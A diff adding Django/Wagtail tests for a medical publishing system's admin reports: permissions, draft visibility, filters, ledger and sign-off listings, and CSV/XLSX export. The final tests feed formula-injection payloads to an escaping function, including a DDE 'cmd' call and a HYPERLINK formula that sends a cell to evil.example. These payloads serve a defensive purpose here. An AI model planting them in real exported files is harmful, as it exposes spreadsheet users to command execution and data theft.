@@ -1,0 +1,272 @@
+"""The reports: who may see them, what they tell, how they filter, and what a spreadsheet makes of them."""
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from articles.admin.reports import harmless
+from articles.authoring.models import ArticlePage
+from articles.publishing.withdraw import withdraw
+from articles.record import events
+from articles.record.models import Edition, Event, Publication, SignOff
+from articles.record.vocabulary import EventKind, Role, SubjectKind
+from articles.review.submit import submit
+from tests.factories import make_article, make_topic, make_user, sign_as
+
+REPORTS = ("articles_report_status", "articles_report_signoffs", "articles_report_ledger")
+
+
+def rows(client, name: str, **asked) -> list[dict[str, str]]:
+    """The report as CSV, which has what the page shows."""
+    answer = client.get(reverse(name), asked | {"export": "csv"})
+    assert answer.status_code == 200
+    return list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))
+
+
+@pytest.fixture
+def editor(login, people):
+    return login(people.editor)
+
+
+@pytest.mark.parametrize("name", REPORTS)
+@pytest.mark.parametrize("results", ["", "_results"])
+def test_nobody_without_the_permission_sees_a_report(login, people, published, name, results):
+    answers = {
+        group: login(make_user(f"one-of-{group}", group)).get(reverse(f"{name}{results}")).status_code
+        for group in ("Authors", "Editors", "Medical reviewers", "Medical leads")
+    }
+
+    assert answers.pop("Authors") in (302, 403)
+    assert set(answers.values()) == {200}
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_reports_stand_in_the_menu_of_those_who_may_see_them(login, people, published, name):
+    told = [
+        reverse(name) in login(user).get(reverse("wagtailadmin_home")).content.decode()
+        for user in (people.editor, people.reviewer, people.author)
+    ]
+
+    assert told == [True, True, False]
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_a_report_of_many_articles_takes_as_many_queries_as_of_few(
+    editor, publish, people, published, name, django_assert_max_num_queries
+):
+    for _ in range(4):
+        publish(make_article(by=people.author, topics=[make_topic()]))
+    editor.get(reverse(name))  # what is looked up once for a session
+
+    with django_assert_max_num_queries(32):
+        html = editor.get(reverse(name)).content.decode()
+
+    assert published.title in html
+
+
+def test_the_status_report_tells_what_readers_get_and_when_whose_review_ends(editor, published):
+    row = next(row for row in rows(editor, "articles_report_status") if row["Title"] == published.title)
+
+    today = timezone.now().date()
+    assert row["Readers get"].startswith("edition 1")
+    assert (row["Type"], row["Language"], row["Review"]) == ("Condition", "en", "Current")
+    assert row["Last review"] == f"{today:%-d %B %Y}"
+    assert row["Next review"].endswith(str(today.year + 3))
+    assert row["Reviewed by"] == "Dr Ada Reviewer, MD"
+    assert row["Policies"] == "Medical part: an editor and a clinician"
+    assert row["Owner"] == "author"
+
+
+@pytest.mark.parametrize(("days", "status"), [(31, "current"), (30, "due"), (29, "due"), (0, "due"), (-1, "overdue")])
+def test_the_status_is_that_of_today_and_not_of_when_it_was_composed(editor, published, days, status):
+    Publication.objects.update(next_review_on=timezone.now().date() + timedelta(days=days))
+
+    found = [row["Title"] for row in rows(editor, "articles_report_status", status=status)]
+
+    expected = "current" if days > 30 else status
+    assert (published.title in found) == (expected == status)
+    assert rows(editor, "articles_report_status", status="withheld") == []
+
+
+def test_a_publication_from_before_the_columns_tells_the_same(editor, published):
+    Publication.objects.update(next_review_on=None, grace_ends_at=None, after_grace="")
+
+    row = next(row for row in rows(editor, "articles_report_status") if row["Title"] == published.title)
+
+    assert row["Review"] == "Current"
+    assert row["Next review"] != ""
+
+
+def test_what_the_clock_withholds_is_told_before_anything_was_recomposed(editor, published):
+    Publication.objects.update(grace_ends_at=timezone.now() - timedelta(hours=1), after_grace="withhold")
+
+    assert [row["Review"] for row in rows(editor, "articles_report_status", status="withheld")] == ["Withheld"]
+
+
+def test_withdrawn_and_never_published_articles_are_found_as_such(editor, people, published):
+    draft = make_article(by=people.author)
+    withdraw(page=ArticlePage.objects.get(pk=published.pk), reason="safety", explanation="Harm.", by=people.editor)
+
+    found = {
+        status: [row["Title"] for row in rows(editor, "articles_report_status", status=status)]
+        for status in ("withdrawn", "never-published", "current")
+    }
+
+    assert found == {"withdrawn": [published.title], "never-published": [draft.title], "current": []}
+
+
+def test_the_status_report_filters_by_type_topic_and_days(editor, people, publish):
+    topic = make_topic()
+    here = publish(make_article(by=people.author, topics=[topic], article_type="treatment"))
+    publish(make_article(by=people.author))
+
+    for asked in ({"article_type": "treatment"}, {"topic": topic.pk}, {"due_within": 13 * 31}):
+        assert [row["Title"] for row in rows(editor, "articles_report_status", **asked)] == [here.title], asked
+    assert rows(editor, "articles_report_status", due_within=5) == []
+
+
+@pytest.mark.parametrize("asked", [{"status": "king"}, {"due_within": "1e30"}, {"due_within": "-4"}, {"topic": "x"}])
+def test_a_filter_that_nobody_offers_is_no_failure(editor, published, asked):
+    assert editor.get(reverse("articles_report_status"), asked).status_code == 200
+
+
+def test_drafts_that_were_never_submitted_are_known_to_those_alone_who_may_edit_them(login, people, published):
+    draft = make_article(by=people.author, title="Zwirbelmark in secret")
+
+    told = {
+        user: [row["Title"] for row in rows(login(user), "articles_report_status")]
+        for user in (people.editor, people.reviewer)
+    }
+
+    assert draft.title in told[people.editor]
+    assert told[people.reviewer] == [published.title]
+
+
+def test_a_draft_that_was_submitted_may_be_known_to_those_who_review(login, people, submitted):
+    assert submitted.title in [row["Title"] for row in rows(login(people.reviewer), "articles_report_status")]
+
+
+def test_no_report_tells_a_reviewer_the_title_of_a_draft_by_showing_or_by_finding_it(login, people):
+    draft = make_article(by=people.author, title="Zwirbelmark in secret")
+    sign_as(draft, people.editor, Role.EDITOR)
+    reviewer, editor = login(people.reviewer), None
+
+    for name in ("articles_report_ledger", "articles_report_signoffs"):
+        html = reviewer.get(reverse(name)).content.decode()
+        assert "Zwirbelmark" not in html
+        assert "an article that was not submitted yet" in html
+        assert rows(reviewer, name, subject="Zwirbelmark") == []
+    editor = login(people.editor)
+    assert len(rows(editor, "articles_report_signoffs", subject="Zwirbelmark")) == 2
+
+
+def test_the_sign_off_report_tells_who_signed_what_and_how(editor, published):
+    row = next(row for row in rows(editor, "articles_report_signoffs") if row["Role"] == "Medical reviewer")
+
+    signed = SignOff.objects.get(subject=published.article_id, role=Role.MEDICAL)
+    assert row["Who"] == "Dr Ada Reviewer, MD"
+    assert row["Article or component"] == f"Article: {published.title}"
+    assert (row["Part"], row["Scope"], row["Method"], row["Voided"]) == (
+        "Medical part",
+        "The whole text",
+        "password",
+        "no",
+    )
+    assert row["When (UTC)"].endswith("UTC")
+    assert (row["Digest"], row["Ledger number"]) == (signed.digest, str(signed.event))
+
+
+def test_the_sign_off_report_filters_by_person_role_and_days(editor, published):
+    today, tomorrow = timezone.now().date(), timezone.now().date() + timedelta(days=1)
+    everything = len(rows(editor, "articles_report_signoffs"))
+
+    found = {
+        "name": len(rows(editor, "articles_report_signoffs", name="ada")),
+        "role": len(rows(editor, "articles_report_signoffs", role="editor")),
+        "today": len(rows(editor, "articles_report_signoffs", signed_at_from=today, signed_at_to=today)),
+        "tomorrow": len(rows(editor, "articles_report_signoffs", signed_at_from=tomorrow)),
+        "before": len(rows(editor, "articles_report_signoffs", signed_at_to=today - timedelta(days=1))),
+    }
+
+    assert found == {"name": 2, "role": 3, "today": everything, "tomorrow": 0, "before": 0}
+
+
+def test_days_are_those_of_utc_whatever_the_persons_own_zone(editor, people, published):
+    from wagtail.users.models import UserProfile
+
+    UserProfile.objects.create(user=people.editor, current_time_zone="Pacific/Kiritimati")
+    day = timezone.now().date()
+
+    assert rows(editor, "articles_report_ledger", at_from=day, at_to=day)
+
+
+def test_a_voided_sign_off_says_when_by_whom_and_why(editor, people, published):
+    signed = SignOff.objects.get(subject=published.article_id, role=Role.MEDICAL)
+    events.append(
+        EventKind.VOIDED,
+        subject_kind=SubjectKind.ARTICLE,
+        subject=published.article_id,
+        actor={"user": 1, "name": "Dr Lead"},
+        data={"signoff": signed.pk, "reason": "The license was revoked."},
+    )
+
+    row = next(row for row in rows(editor, "articles_report_signoffs") if row["Role"] == "Medical reviewer")
+
+    assert "by Dr Lead: The license was revoked." in row["Voided"]
+
+
+def test_the_ledger_report_tells_every_line_in_words_newest_first(editor, published):
+    found = rows(editor, "articles_report_ledger")
+
+    lines = list(Event.objects.order_by("-number"))
+    assert [(int(row["Number"]), row["Hash"]) for row in found] == [(line.number, line.hash) for line in lines]
+    assert found[0]["What"] == "Published"
+    assert found[0]["About"] == f"Article: {published.title}"
+    assert found[0]["In words"].startswith("Edition 1 was published: readers get it from now on")
+    assert found[0]["Who"] == "Dr Ada Reviewer"
+
+
+def test_the_ledger_report_filters_by_kind_person_and_subject(editor, people, published, publish):
+    other = publish(make_article(by=people.author))
+    edition = Edition.objects.get(subject=other.article_id)
+
+    by_kind = rows(editor, "articles_report_ledger", kind=["published", "submitted"])
+    by_actor = rows(editor, "articles_report_ledger", actor="ada")
+    by_id = rows(editor, "articles_report_ledger", subject=str(other.article_id), kind="published")
+    by_title = rows(editor, "articles_report_ledger", subject=other.title, kind="published")
+    by_component = rows(editor, "articles_report_ledger", subject="Consultation")
+
+    assert {row["What"] for row in by_kind} == {"Published", "Submitted"}
+    assert {row["Who"] for row in by_actor} == {"Dr Ada Reviewer"}
+    assert [row["Number"] for row in by_id] == [row["Number"] for row in by_title] == [str(edition.event)]
+    assert {row["About"] for row in by_component} == {"Offer: Consultation"}
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "=cmd|' /C calc'!A0"])
+def test_a_cell_that_a_spreadsheet_would_run_is_text(cell):
+    assert harmless(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", ["Scalp", "2 = 2", "'quoted", "", "sha-256:ab"])
+def test_other_cells_stay_as_they_are(cell):
+    assert harmless(cell) == cell
+
+
+@pytest.mark.parametrize("name", ["articles_report_status", "articles_report_ledger"])
+def test_a_title_that_is_a_formula_is_harmless_in_both_kinds_of_file(editor, people, name):
+    page = make_article(by=people.author, title='=HYPERLINK("https://evil.example/"&A1)')
+    submit(page=page, by=people.author)
+
+    told = [cell for row in rows(editor, name) for cell in row.values()]
+    answer = editor.get(reverse(name), {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+
+    assert any("HYPERLINK" in cell for cell in told)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in told)
+    assert not any(cell.data_type == "f" or str(cell.value).startswith(("=", "+", "@")) for cell in cells)
